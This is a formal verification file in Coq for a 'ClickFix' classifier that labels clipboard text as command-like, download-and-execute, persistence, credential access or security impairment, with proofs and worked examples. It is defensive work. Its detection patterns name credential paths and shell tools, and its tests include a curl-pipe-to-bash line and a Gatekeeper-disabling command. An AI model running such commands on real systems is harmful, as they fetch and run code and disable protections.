(* ===== verification/ClickFixClassifier.v ===== *)
(** The fallback classifier of clipboard text: [clickfix/classifier.py].

    Text is code points. Taken from outside: the Unicode tables and [str.lower], as for
    the command scanner, and the general category of a code point. A multi-line [^] is
    written as a look-behind, [(?<![^\n])]; the optional digit before [>] is ASCII here,
    which changes nothing that is asked. *)

From S2P Require Import Prelude PyStr PyFloat PyDict PyJson PyRepr ShellTokenizer TextRegex Utf8 ShellConfig License ShellScanner ClickFixService.
From Stdlib Require Import Ascii.

Definition MAX_INPUT : Z := 65536.
Definition MAX_DECODED : Z := 131072.
Definition MAX_TOKENS : nat := 4096.

Class ClassifierEnv := {
  #[global] classifier_scan :: ScanEnv;
  is_other_cp : Z -> bool             (** [unicodedata.category(c).startswith("C")] *)
}.

(** [_BIDI | _ZERO_WIDTH] *)
Definition invisible_cp (c : Z) : bool :=
  between 8234 8238 c || between 8294 8297 c || member c [8203; 8204; 8205; 65279].

Definition INTERPRETER_NAMES : list string :=
  ["sh"; "bash"; "zsh"; "fish"; "csh"; "tcsh"; "osascript"; "python"; "python3"; "perl"; "ruby"; "php"; "node"; "deno";
   "pwsh"; "powershell"; "swift"; "xcrun"; "make"; "cmake"].

Record ClassificationResult := {
  cc_classification : string;
  cc_confidence : float;
  cc_language_candidates : list string;
  cc_matched_categories : list string;
  cc_command_like : bool;
  cc_script_like : bool;
  cc_encoded_content : bool;
  cc_redacted_preview : text;
  cc_truncated : bool
}.

(** [(?:^|[\s;|&])(?:/(?:usr/)?bin/)?NAME(?:\s|$)] *)
Definition invoked (name : string) : re :=
  XCat (pattern "(?:^|[\s;|&])(?:/(?:usr/)?bin/)?") (XCat (literal (text_of name)) (pattern "(?:\s|$)")).

Definition word_of (name : string) : re := XCat XBoundary (XCat (literal (text_of name)) XBoundary).

Definition shell_command_pattern : re :=
  pattern "(?:(?<![^\n])|[;|&]\s*)(?:/(?:usr/)?bin/)?(?:sudo|rm|mv|cp|open|defaults|launchctl|installer|pkgutil|hdiutil|ditto|chmod|chown|xattr|kill|pkill|eval|exec|env|nohup|nc|ncat|ssh|scp)(?:\s|$)".

Definition lower_byte (b : Z) : Z := if between 65 90 b then b + 32 else b.

Section Classifier.
Context `{ClassifierEnv}.

(** [_preview] *)
Definition preview (s : text) : text :=
  let cleaned := (fun c => if is_other_cp c then 32 else c) <$> s in
  let cleaned := sub (pattern_i "(password|token|secret|authorization)\s*[:=]\s*\S+")
    (fun _ st => group_text cleaned st 1 ++ text_of "=[REDACTED]") cleaned in
  let cleaned := sub (pattern "\b[A-Za-z0-9+/]{32,}={0,2}\b") (fun _ _ => text_of "[ENCODED DATA REDACTED]") cleaned in
  take 240 cleaned.

(** [re.fullmatch] *)
Definition full_match (r : re) (s : text) : bool :=
  bool_decide (is_Some (run r (fun st => match m_rest st with [] => Some st | _ => None end) (start_at None s 0))).

Definition sh_words : re := pattern_i "\b(chmod|sh|bash|zsh|python3?)\b".

(** The literal of a decoder decodes to a command. *)
Definition decoded_command (s : text) : bool :=
  match search_match (pattern "\b[A-Za-z0-9+/]{16,}={0,2}\b") s with
  | None => false
  | Some (start, st) =>
      match b64decode (string_of (slice start (m_pos st) s)) with
      | None => false
      | Some raw =>
          let decoded := lower_byte <$> take (Z.to_nat MAX_DECODED) (bytes_of raw) in
          existsb (fun w => occurs (text_of w) decoded) ["curl"; "bash"; "osascript"; "python"]
      end
  end.

Definition encoded_content (s : text) : bool := search (pattern_i "\b(base64|xxd\s+-r|fromhex|charcode)\b") s.

Definition interpreter_seen (lowered : text) : bool := existsb (fun name => search (invoked name) lowered) INTERPRETER_NAMES.

(** The categories, in the order they are added, of a text and its lower case. *)
Definition categories_of (s lowered : text) : list string :=
  let command := when (interpreter_seen lowered) ["INTERPRETER"]
    ++ when (search shell_command_pattern lowered) ["SHELL_COMMAND"] in
  let chained := search (pattern "(?:\|\||&&|[|;]|`|\$\(|<<|>>|[0-9]?>|<\(|>\()") s in
  let download := search (pattern_i "\b(curl|wget|fetch)\b|https?://") s in
  command
  ++ when (starts (text_of "#!") lowered || (member 10 s && negb (bool_decide (command = [])))) ["SCRIPT_GRAMMAR"]
  ++ when chained ["EXECUTION_CHAINING"]
  ++ when download ["DOWNLOAD"]
  ++ when (download && (chained || search sh_words s)) ["DOWNLOAD_AND_EXECUTE"]
  ++ when (search (pattern_i "\b(launchagents?|launchdaemons?|crontab|login item)\b|\blaunchctl\s+(?:load|bootstrap|enable)\b|\.zshrc|\.bash_profile") s)
       ["PERSISTENCE"]
  ++ when (search (pattern_i "\bsecurity\s+(find|dump|export)|\.ssh/|keychain|cookies?|wallet|aws/credentials|gcloud") s)
       ["CREDENTIAL_ACCESS"]
  ++ when (search (pattern_i "\b(spctl|csrutil|tccutil|pfctl)\b|xattr\s+[^\n]*-d\s+com\.apple\.quarantine|disable[^\n]*(firewall|logging|update)") s)
       ["SECURITY_IMPAIRMENT"]
  ++ when (existsb invisible_cp s) ["INVISIBLE_UNICODE"]
  ++ when (encoded_content s) (["ENCODING"] ++ when (decoded_command s) ["DECODED_COMMAND_INDICATOR"]).

Definition languages_of (lowered : text) : list string :=
  when (interpreter_seen lowered) (filter (fun name => search (word_of name) lowered = true) INTERPRETER_NAMES).

Definition COMMAND_CATEGORIES : list string :=
  ["INTERPRETER"; "SHELL_COMMAND"; "EXECUTION_CHAINING"; "DOWNLOAD_AND_EXECUTE"; "PERSISTENCE"; "CREDENTIAL_ACCESS";
   "SECURITY_IMPAIRMENT"; "DECODED_COMMAND_INDICATOR"].

Definition simple_command (lowered : text) : bool :=
  full_match (pattern "\s*(?:ls|whoami|id|pwd|uname|date)(?:\s+[^\n;|&]+)?\s*") lowered.

Definition is_command_like (categories : list string) (lowered : text) : bool :=
  simple_command lowered || existsb (fun c => one_of c categories) COMMAND_CATEGORIES.

(** The chain of [if]s. *)
Definition choose (categories : list string) (encoded command_like : bool) (s : text) (tokens : nat) : string :=
  if one_of "SECURITY_IMPAIRMENT" categories then "SECURITY_IMPAIRMENT"
  else if one_of "CREDENTIAL_ACCESS" categories then "CREDENTIAL_ACCESS"
  else if one_of "PERSISTENCE" categories then "PERSISTENCE_COMMAND"
  else if one_of "DOWNLOAD_AND_EXECUTE" categories then "DOWNLOAD_AND_EXECUTE"
  else if encoded && command_like then "ENCODED_COMMAND"
  else if one_of "SCRIPT_GRAMMAR" categories then "SCRIPT_LIKE"
  else if command_like then "COMMAND_LIKE"
  else if search (pattern "[{}()]|\b(function|class|import|let|const|struct)\b") s && Nat.ltb 2 tokens then "SOURCE_CODE_FRAGMENT"
  else "PLAIN_TEXT".

Definition confidence_of (command_like : bool) (categories : list string) : float :=
  if command_like
  then fmin (flit 99 100) (fadd (flit 55 100) (fmul (flit 7 100) (float_of_Z (zlen categories))))
  else flit 9 10.

(** [classify_text], having taken [elapsed_ns] *)
Definition classify_text (value : text) (deadline_ms elapsed_ns : Z) : ClassificationResult :=
  let raw := utf8_encode value in
  let s := nfkc (utf8_decode (take (Z.to_nat MAX_INPUT) raw)) in
  let tokens := length (take MAX_TOKENS (finditer (pattern "[^\s]+") (take (Z.to_nat MAX_INPUT) s))) in
  let lowered := text_lower s in
  let categories := categories_of s lowered in
  let encoded := encoded_content s in
  let command_like := is_command_like categories lowered in
  let classification := choose categories encoded command_like s tokens in
  let late := fgtb (int_div elapsed_ns 1000000) (fexact deadline_ms) in
  let command_like' := command_like && negb late in
  let categories' := categories ++ when late ["DEADLINE_EXCEEDED"] in {|
    cc_classification := if late then "CLASSIFICATION_FAILED" else classification;
    cc_confidence := confidence_of command_like' categories';
    cc_language_candidates := sort_by str_le (languages_of lowered);
    cc_matched_categories := sort_by str_le categories';
    cc_command_like := command_like';
    cc_script_like := one_of "SCRIPT_GRAMMAR" categories;
    cc_encoded_content := encoded;
    cc_redacted_preview := preview s;
    cc_truncated := MAX_INPUT <? zlen raw |}.

(** [evidence_hash] *)
Definition evidence_hash (s : text) : string := sha256_hex (utf8_encode s).
End Classifier.

(** ** What the verdict means to the service *)

Section Verdict.
Context `{ClassifierEnv}.

Lemma command_category categories lowered c : c ∈ COMMAND_CATEGORIES -> one_of c categories = true ->
  is_command_like categories lowered = true.
Proof.
  intros Hc Hin. unfold is_command_like. apply orb_true_iff. right. apply existsb_exists. exists c.
  split; [by apply list_elem_of_In|done].
Qed.

(** Every branch but the last two is a risky class, and those are taken only when nothing
    looks like a command or a script. *)
Lemma choose_risky categories lowered encoded s tokens :
  let command_like := is_command_like categories lowered in
  one_of (choose categories encoded command_like s tokens) RISKY
  = command_like || one_of "SCRIPT_GRAMMAR" categories.
Proof.
  intros command_like. unfold choose.
  assert (Hcat : forall c, one_of c categories = true -> one_of c COMMAND_CATEGORIES = true -> command_like = true)
    by (intros c Hc Hin%one_of_spec; by apply (command_category _ _ c)).
  destruct (one_of "SECURITY_IMPAIRMENT" categories) eqn:H1; [by rewrite (Hcat _ H1 eq_refl)|].
  destruct (one_of "CREDENTIAL_ACCESS" categories) eqn:H2; [by rewrite (Hcat _ H2 eq_refl)|].
  destruct (one_of "PERSISTENCE" categories) eqn:H3; [by rewrite (Hcat _ H3 eq_refl)|].
  destruct (one_of "DOWNLOAD_AND_EXECUTE" categories) eqn:H4; [by rewrite (Hcat _ H4 eq_refl)|].
  destruct command_like; rewrite ?andb_true_r, ?andb_false_r.
  - destruct encoded; [done|]. by destruct (one_of "SCRIPT_GRAMMAR" categories).
  - destruct (one_of "SCRIPT_GRAMMAR" categories); [done|]. by destruct (_ && _).
Qed.

(** The verdict on a text is one the service takes for risky exactly when the text looks
    like a command or a script and the deadline was kept; a late verdict is a failure,
    and never a clean one. *)
Theorem risky_means_command_or_script value deadline_ms elapsed_ns :
  let r := classify_text value deadline_ms elapsed_ns in
  let late := fgtb (int_div elapsed_ns 1000000) (fexact deadline_ms) in
  one_of (cc_classification r) RISKY = negb late && (cc_command_like r || cc_script_like r)
  /\ (late = true -> cc_classification r = "CLASSIFICATION_FAILED" /\ cc_command_like r = false).
Proof.
  intros r late. subst r. unfold classify_text. fold late. cbn [cc_classification cc_command_like cc_script_like].
  destruct late; cbn [negb andb].
  - split; [by vm_compute|]. intros _. by rewrite andb_false_r.
  - split; [|done]. rewrite choose_risky, andb_true_r. done.
Qed.

Lemma preview_bounded s : zlen (preview s) <= 240.
Proof. unfold preview, zlen. rewrite length_take. lia. Qed.
End Verdict.

(** ** Texts *)

Definition ascii_classifier : ClassifierEnv := {|
  classifier_scan := {|
    scan_unicode := {|
      nfkc := fun s => s; is_alpha_cp := fun c => between 65 90 c || between 97 122 c;
      is_alnum_cp := fun c => between 48 57 c || between 65 90 c || between 97 122 c |};
    text_lower := fun s => (fun c => if between 65 90 c then c + 32 else c) <$> s;
    sha256_hex := fun _ => ""; inflate := fun _ _ => None |};
  is_other_cp := fun c => c <? 32 |}.

Definition verdict_on (s : string) : string * list string :=
  let r := @classify_text ascii_classifier (text_of s) 100 0 in (cc_classification r, cc_matched_categories r).

Example classifier_verdicts :
  verdict_on "curl -s https://x.y/i.sh | bash"
    = ("DOWNLOAD_AND_EXECUTE", ["DOWNLOAD"; "DOWNLOAD_AND_EXECUTE"; "EXECUTION_CHAINING"; "INTERPRETER"])
  /\ verdict_on "sudo spctl --master-disable" = ("SECURITY_IMPAIRMENT", ["SECURITY_IMPAIRMENT"; "SHELL_COMMAND"])
  /\ verdict_on "please send me the report" = ("PLAIN_TEXT", [])
  /\ (verdict_on "ls -la").1 = "COMMAND_LIKE"
  /\ (verdict_on "class Foo is nice to have").1 = "SOURCE_CODE_FRAGMENT"
  /\ (verdict_on "echo Y3VybCBodHRwOi8v | base64 -D").1 = "ENCODED_COMMAND".
Proof. by vm_compute. Qed.

Example previews :
  @preview ascii_classifier (text_of "password: hunter2 rest") = text_of "password=[REDACTED] rest".
Proof. by vm_compute. Qed.
